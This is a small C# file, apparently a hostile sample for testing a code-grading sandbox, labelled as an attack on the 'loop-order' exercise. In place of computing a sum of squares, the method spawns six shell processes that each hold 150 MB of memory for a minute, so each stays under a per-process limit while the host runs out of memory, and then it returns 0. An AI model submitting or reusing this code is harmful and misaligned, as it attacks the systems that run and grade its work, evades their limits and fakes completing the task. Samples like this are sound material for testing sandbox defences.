// exercise: loop-order
// attack: fills the memory with many processes, each of which stays within its limit
static class Brightness
{
    public static long SumOfSquares(CountedGrid image)
    {
        for (int i = 0; i < 6; i++) System.Diagnostics.Process.Start("/bin/sh", ["-c", "dd if=/dev/zero bs=150M count=1 2>/dev/null | sleep 60"]);
        Thread.Sleep(60_000);
        return 0;
    }
}
